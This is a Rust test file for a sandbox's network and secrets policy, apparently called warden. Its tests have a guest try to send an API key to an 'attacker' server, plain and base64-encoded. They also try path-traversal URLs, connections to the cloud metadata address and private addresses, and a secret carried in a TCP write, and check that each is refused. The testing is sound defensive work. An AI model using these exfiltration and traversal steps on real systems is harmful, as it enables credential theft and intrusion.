//! `[[http]]`, `[secrets]`, `[network]` and the network limits, rule by rule, against loopback
//! servers the tests start themselves. The guest is net-probe: each argument is one step
//! (an HTTP request, a TCP connection, a secrets call) and each step prints one line.

use crate::server::Server;
use crate::util::{Outcome, Scene};
use warden_guest_artifacts as guests;

/// A secret value long enough to be unmistakable in any output.
const KEY: &str = "sk_live_4f9c2d7e1b";

/// Runs net-probe under `manifest`; `steps` are `&str` or `String` (steps with an address in
/// them are built with `format!`).
fn probe(s: &Scene, manifest: &str, steps: &[impl AsRef<str>]) -> Outcome {
    let m = s.manifest(manifest);
    let steps: Vec<&str> = steps.iter().map(AsRef::as_ref).collect();
    s.run_with(Some(&m), guests::NET_PROBE_P2, &steps, |c| {
        c.env("WARDEN_TEST_API_KEY", KEY);
    })
}

fn lines(r: &Outcome) -> Vec<&str> {
    r.stdout.lines().collect()
}

/// The `decision` records of `capability` with the given decision, as (target, reason).
fn decisions(r: &Outcome, capability: &str, decision: &str) -> Vec<(String, String)> {
    r.events("decision")
        .into_iter()
        .filter(|e| e["capability"] == capability && e["decision"] == decision)
        .map(|e| {
            (
                e["target"].as_str().unwrap_or_default().to_owned(),
                e["reason"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

fn api_manifest(server: &Server, extra: &str) -> String {
    format!(
        r#"[[http]]
url = "{base}/v1/"
methods = ["GET", "POST"]

[secrets.api]
from = "env:WARDEN_TEST_API_KEY"
inject = {{ header = "Authorization", format = "Bearer {{secret}}", url = "{base}/v1/" }}

{extra}"#,
        base = server.url("")
    )
}

#[test]
fn an_allowed_request_reaches_the_server_with_the_injected_secret() {
    let server = Server::echo();
    let s = Scene::new();
    let r = probe(
        &s,
        &api_manifest(&server, ""),
        &[&format!(
            "http-secret POST {} api hello",
            server.url("/v1/charges")
        )],
    );
    assert_eq!(r.code, 0, "{r:?}");
    let seen = server.requests();
    assert_eq!(seen.len(), 1, "{r:?}");
    assert_eq!(seen[0].method, "POST");
    assert_eq!(seen[0].path, "/v1/charges");
    assert_eq!(
        seen[0].header("authorization"),
        Some(&*format!("Bearer {KEY}"))
    );
    assert_eq!(
        seen[0].header("warden-secret"),
        None,
        "the naming header never leaves"
    );
    assert_eq!(seen[0].text(), "hello");
    // The echo server sent the header back; the guest saw it redacted.
    assert!(lines(&r)[0].starts_with("http: 200"), "{r:?}");
    assert!(r.stdout.contains("[redacted by warden]"), "{r:?}");
    assert!(!r.stdout.contains(KEY) && !r.stderr.contains(KEY), "{r:?}");
    let allowed = decisions(&r, "http", "allow");
    assert_eq!(allowed.len(), 1, "{r:?}");
    assert!(allowed[0].0.starts_with("POST http://127.0.0.1:"));
    assert!(
        decisions(&r, "secret", "allow")
            .iter()
            .any(|(t, why)| t == "api" && why.contains("injected"))
    );
    assert!(
        decisions(&r, "secret", "deny")
            .iter()
            .any(|(t, why)| t == "api" && why.contains("redacted before the guest saw it"))
    );
    // The audit log names the secret, never its value.
    assert!(r.audit.iter().all(|e| !e.to_string().contains(KEY)));
}

#[test]
fn requests_outside_the_rules_are_refused_and_audited() {
    let server = Server::start();
    let other = Server::start();
    let s = Scene::new();
    let manifest = format!(
        "[[http]]\nurl = \"{}\"\nmethods = [\"POST\"]\n",
        server.url("/v1/charges")
    );
    let steps = [
        format!("http GET {}", server.url("/v1/charges")),
        format!("http POST {}", server.url("/v1/refunds")),
        format!("http POST {}", server.url("/v1/chargesX")),
        format!("http POST {}", server.url("/v1/charges/../../admin")),
        format!("http POST {}", server.url("/v1/charges/%2e%2e/admin")),
        format!("http POST {}", other.url("/v1/charges")),
        format!("http POST https://{}/v1/charges", server.addr()),
        format!("http POST {}", server.url("/v1/charges/7")),
    ];
    let r = probe(&s, &manifest, &steps);
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    for (n, line) in out.iter().enumerate().take(7) {
        assert!(
            line.contains("refused by warden"),
            "step {n}: {line}\n{r:?}"
        );
    }
    assert!(out[7].starts_with("http: 200"), "{r:?}");
    // Only the last request reached the server; the other server saw nothing.
    assert_eq!(server.requests().len(), 1);
    assert_eq!(server.requests()[0].path, "/v1/charges/7");
    assert!(other.requests().is_empty());
    let denied = decisions(&r, "http", "deny");
    assert_eq!(denied.len(), 7, "{denied:?}");
    assert!(
        denied[0].1.contains("allows POST only, not GET"),
        "{denied:?}"
    );
    assert!(denied[3].1.contains("`..` segment"), "{denied:?}");
    assert!(denied[4].1.contains("encoded"), "{denied:?}");
}

#[test]
fn naming_a_secret_for_another_destination_is_refused_as_exfiltration() {
    let server = Server::echo();
    let attacker = Server::echo();
    let s = Scene::new();
    let extra = format!(
        "[[http]]\nurl = \"{}\"\nmethods = [\"POST\"]\n",
        attacker.url("/")
    );
    let steps = [
        // Naming the secret for the attacker's server.
        format!("http-secret POST {} api", attacker.url("/collect")),
        // Carrying the value itself, plain and base64-encoded, in the body and a header.
        format!("http POST {} {KEY}", attacker.url("/collect")),
        format!(
            "http-header POST {} x-data c2tfbGl2ZV80ZjljMmQ3ZTFi",
            attacker.url("/collect")
        ),
        // A secret that does not exist.
        format!("http-secret POST {} github", server.url("/v1/x")),
        // The same attacker endpoint with nothing secret in it is fine.
        format!("http POST {} harmless", attacker.url("/collect")),
    ];
    let r = probe(&s, &api_manifest(&server, &extra), &steps);
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    for line in &out[..4] {
        assert!(line.contains("refused by warden"), "{line}\n{r:?}");
    }
    assert!(out[4].starts_with("http: 200"), "{r:?}");
    let got = attacker.requests();
    assert_eq!(got.len(), 1, "only the harmless request arrives");
    assert_eq!(got[0].text(), "harmless");
    assert!(server.requests().is_empty());
    let denied = decisions(&r, "secret", "deny");
    let exfil: Vec<_> = denied
        .iter()
        .filter(|(t, why)| t == "api" && why.starts_with("exfiltration attempt"))
        .collect();
    assert_eq!(exfil.len(), 3, "{denied:?}");
    assert!(
        denied
            .iter()
            .any(|(t, why)| t == "github" && why.contains("no secret"))
    );
}

#[test]
fn reveal_needs_reveal_true_and_every_read_is_audited() {
    let server = Server::start();
    let s = Scene::new();
    let r = probe(
        &s,
        &api_manifest(&server, ""),
        &["open api", "reveal api", "open nope"],
    );
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    assert!(
        out[0].contains("open api") && out[0].contains("Authorization"),
        "{r:?}"
    );
    assert!(out[1].contains("error") && !out[1].contains(KEY), "{r:?}");
    assert!(out[2].contains("error"), "{r:?}");
    assert!(
        decisions(&r, "secret", "deny")
            .iter()
            .any(|(t, why)| t == "api" && why.contains("reveal"))
    );

    let manifest = format!(
        "[secrets.signing]\nfrom = \"env:WARDEN_TEST_API_KEY\"\nreveal = true\n\n{}",
        api_manifest(&server, "")
    );
    let r = probe(&s, &manifest, &["reveal signing", "reveal signing"]);
    let revealed = format!("secret: revealed {KEY}");
    assert_eq!(lines(&r), [revealed.as_str(), revealed.as_str()], "{r:?}");
    let reads = decisions(&r, "secret", "allow")
        .into_iter()
        .filter(|(t, why)| t == "signing" && why.starts_with("reveal"))
        .count();
    assert_eq!(reads, 2, "{r:?}");
}

#[test]
fn a_missing_secret_source_stops_the_start() {
    let s = Scene::new();
    let m = s.manifest("[secrets.api]\nfrom = \"env:WARDEN_TEST_SURELY_UNSET\"\n");
    let r = s.run(Some(&m), guests::NET_PROBE_P2, &["open api"]);
    r.assert_one_line_error("secret `api`: env:WARDEN_TEST_SURELY_UNSET is not set");
    let m = s.manifest(&format!(
        "[secrets.api]\nfrom = \"file:{}\"\n",
        s.path("absent-secret").display()
    ));
    let r = s.run(Some(&m), guests::NET_PROBE_P2, &["open api"]);
    r.assert_one_line_error("secret `api`: file:");
}

#[test]
fn a_name_resolving_to_loopback_is_refused_unless_the_address_is_named() {
    let server = Server::start();
    let s = Scene::new();
    let port = server.port();
    let manifest = format!(
        "[network]\nconnect = [\"localhost:{port}\"]\n\n[[http]]\nurl = \"http://localhost:{port}/\"\n"
    );
    let steps = [
        format!("http GET http://localhost:{port}/"),
        format!("tcp localhost:{port}"),
    ];
    let r = probe(&s, &manifest, &steps);
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    assert!(out[0].contains("error"), "{r:?}");
    assert!(out[1].contains("error"), "{r:?}");
    assert!(server.requests().is_empty(), "nothing reached the server");
    let http = decisions(&r, "http", "deny");
    assert!(http[0].1.contains("is loopback"), "{http:?}");
    let net = decisions(&r, "net", "deny");
    assert!(
        net.iter()
            .any(|(t, why)| t.ends_with(&format!(":{port}")) && why.contains("loopback")),
        "{net:?}"
    );
}

#[test]
fn tcp_connects_only_to_listed_destinations() {
    let server = Server::start();
    let s = Scene::new();
    let addr = server.addr();
    let manifest = format!("[network]\nconnect = [\"{addr}\"]\n");
    let steps = [
        format!("tcp {addr} hello"),
        "tcp 127.0.0.1:1".to_owned(),
        "tcp 10.20.30.40:443".to_owned(),
        "tcp 169.254.169.254:80".to_owned(),
        "tcp example.com:443".to_owned(),
    ];
    let r = probe(&s, &manifest, &steps);
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    assert_eq!(out[0], "tcp: sent 5", "{r:?}");
    for line in &out[1..] {
        assert!(line.starts_with("tcp: error"), "{line}\n{r:?}");
    }
    assert_eq!(decisions(&r, "net", "allow")[0].0, addr);
    let denied = decisions(&r, "net", "deny");
    assert!(
        denied
            .iter()
            .any(|(t, why)| t == "169.254.169.254:80" && why.contains("metadata"))
    );
    assert!(
        denied
            .iter()
            .any(|(t, why)| t == "10.20.30.40:443" && why.contains("private"))
    );
    // An unlisted name is not even looked up.
    assert!(
        denied
            .iter()
            .any(|(t, why)| t == "example.com" && why.starts_with("lookup"))
    );
}

#[test]
fn without_network_grants_every_socket_is_refused_and_audited() {
    let server = Server::start();
    let s = Scene::new();
    let r = probe(
        &s,
        "",
        &[&format!("tcp {}", server.addr()), "tcp localhost:80"],
    );
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        lines(&r).iter().all(|l| l.starts_with("tcp: error")),
        "{r:?}"
    );
    assert!(decisions(&r, "net", "allow").is_empty());
    assert!(!decisions(&r, "net", "deny").is_empty(), "{r:?}");
}

#[test]
fn the_http_requests_limit_stops_the_run_with_126() {
    let server = Server::start();
    let s = Scene::new();
    let r = probe(
        &s,
        &api_manifest(&server, "[limits]\nhttp-requests = 3\n"),
        &["repeat 20", &format!("http GET {}", server.url("/v1/x"))],
    );
    assert_eq!(r.code, 126, "{r:?}");
    assert_eq!(server.requests().len(), 3);
    assert_eq!(r.events("limit")[0]["limit"], "http-requests");
    assert_eq!(r.exit()["outcome"], "http-requests-limit");
    assert!(r.stderr.contains("http-requests limit reached"), "{r:?}");
}

#[test]
fn the_egress_limit_stops_the_run_with_126() {
    let server = Server::start();
    let s = Scene::new();
    let big = "x".repeat(3000);
    let r = probe(
        &s,
        &api_manifest(&server, "[limits]\negress = \"8KiB\"\n"),
        &[
            "repeat 10",
            &format!("http POST {} {big}", server.url("/v1/upload")),
        ],
    );
    assert_eq!(r.code, 126, "{r:?}");
    assert!(server.requests().len() < 3, "{}", server.requests().len());
    assert_eq!(r.events("limit")[0]["limit"], "egress");
    assert_eq!(r.exit()["outcome"], "egress-limit");
}

#[test]
fn a_tcp_write_carrying_a_secret_is_refused_and_tcp_bytes_count_as_egress() {
    let server = Server::start();
    let s = Scene::new();
    let addr = server.addr();
    let manifest = format!(
        "[network]\nconnect = [\"{addr}\"]\n\n[secrets.api]\nfrom = \"env:WARDEN_TEST_API_KEY\"\n"
    );
    let steps = [
        format!("tcp {addr} token={KEY}"),
        format!("tcp {addr} fine"),
    ];
    let r = probe(&s, &manifest, &steps);
    assert_eq!(r.code, 0, "{r:?}");
    let out = lines(&r);
    assert!(out[0].starts_with("tcp: write error"), "{r:?}");
    assert_eq!(out[1], "tcp: sent 4", "{r:?}");
    assert!(
        decisions(&r, "secret", "deny")
            .iter()
            .any(|(t, why)| t == "api" && why.starts_with("exfiltration attempt: a TCP write"))
    );

    let manifest = format!("[network]\nconnect = [\"{addr}\"]\n\n[limits]\negress = \"4KiB\"\n");
    let big = "y".repeat(3000);
    let r = probe(&s, &manifest, &["repeat 5", &format!("tcp {addr} {big}")]);
    assert_eq!(r.code, 126, "{r:?}");
    assert_eq!(r.events("limit")[0]["limit"], "egress");
    // Two writes fit in 4 KiB; the third is refused (the run may stop before the guest
    // prints its error).
    assert!(
        r.stdout
            .lines()
            .filter(|l| l.starts_with("tcp: sent"))
            .count()
            <= 2,
        "{r:?}"
    );
}

#[test]
fn https_is_tls_and_never_falls_back_to_plain_http() {
    // A plain-HTTP server behind an https:// rule: warden's TLS handshake fails, and nothing
    // readable as a request (let alone the injected secret) reaches the server.
    let server = Server::start();
    let s = Scene::new();
    let base = format!("https://{}", server.addr());
    let manifest = format!(
        "[[http]]\nurl = \"{base}/\"\n\n[secrets.api]\nfrom = \"env:WARDEN_TEST_API_KEY\"\n\
         inject = {{ header = \"Authorization\", format = \"Bearer {{secret}}\", url = \"{base}/\" }}\n"
    );
    let r = probe(&s, &manifest, &[&format!("http GET {base}/v1/x")]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(lines(&r)[0].starts_with("http: error"), "{r:?}");
    assert!(server.requests().is_empty(), "{:?}", server.requests());
}

#[test]
fn a_wildcard_entry_resolves_its_subdomains_only_and_still_checks_each_address() {
    // `*.localhost` names resolve to loopback (RFC 6761), which no name may reach: the lookup
    // is allowed, each connection refused; `localhost` itself is not under the wildcard.
    let server = Server::start();
    let s = Scene::new();
    let port = server.port();
    let manifest = format!("[network]\nconnect = [\"*.localhost:{port}\"]\n");
    let steps = [
        format!("tcp api.localhost:{port}"),
        format!("tcp localhost:{port}"),
    ];
    let r = probe(&s, &manifest, &steps);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        lines(&r).iter().all(|l| l.starts_with("tcp: error")),
        "{r:?}"
    );
    let allowed = decisions(&r, "net", "allow");
    assert_eq!(allowed.len(), 1, "{allowed:?}");
    assert_eq!(allowed[0].0, "api.localhost");
    let denied = decisions(&r, "net", "deny");
    assert!(
        denied
            .iter()
            .any(|(_, why)| why.contains("resolved from \"api.localhost\") is loopback"))
    );
    assert!(
        denied
            .iter()
            .any(|(t, why)| t == "localhost" && why.starts_with("lookup"))
    );
}

/// A request that never left counts no egress: its host refused the connection, or its name
/// resolved only to an address the rules refuse. (A name lookup's own query did leave and
/// counts.) The control sends the same body to a server that answers: it counts.
#[test]
fn a_request_that_never_left_counts_no_egress() {
    let server = Server::start();
    let closed = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let port = server.port();
    let s = Scene::new();
    let body = "y".repeat(3000);
    let manifest = format!(
        "[[http]]\nurl = \"http://127.0.0.1:{closed}/\"\nmethods = [\"POST\"]\n\n\
         [[http]]\nurl = \"http://localhost:{port}/\"\nmethods = [\"POST\"]\n\n\
         [[http]]\nurl = \"http://127.0.0.1:{port}/\"\nmethods = [\"POST\"]\n"
    );
    let egress = |steps: &[String]| {
        let r = probe(&s, &manifest, steps);
        assert_eq!(r.code, 0, "{r:?}");
        (r.exit()["egress_bytes"].as_u64().unwrap(), r)
    };

    let (refused, r) = egress(&[format!("http POST http://127.0.0.1:{closed}/x {body}")]);
    assert!(lines(&r)[0].contains("error"), "{r:?}");
    assert_eq!(refused, 0, "a refused connection sent nothing: {r:?}");

    // `localhost` resolves to loopback, which the rules refuse unless named literally.
    let (unresolved, r) = egress(&[format!("http POST http://localhost:{port}/x {body}")]);
    assert!(lines(&r)[0].contains("error"), "{r:?}");
    assert!(
        unresolved < 200,
        "only the name lookup counts: {unresolved}: {r:?}"
    );

    // Control: the same body, sent.
    let (sent, r) = egress(&[format!("http POST http://127.0.0.1:{port}/x {body}")]);
    assert!(lines(&r)[0].starts_with("http: 200"), "{r:?}");
    assert!(sent > 3000, "{sent}");
    assert!(
        server.requests().len() == 1,
        "only the control reached the server"
    );
}
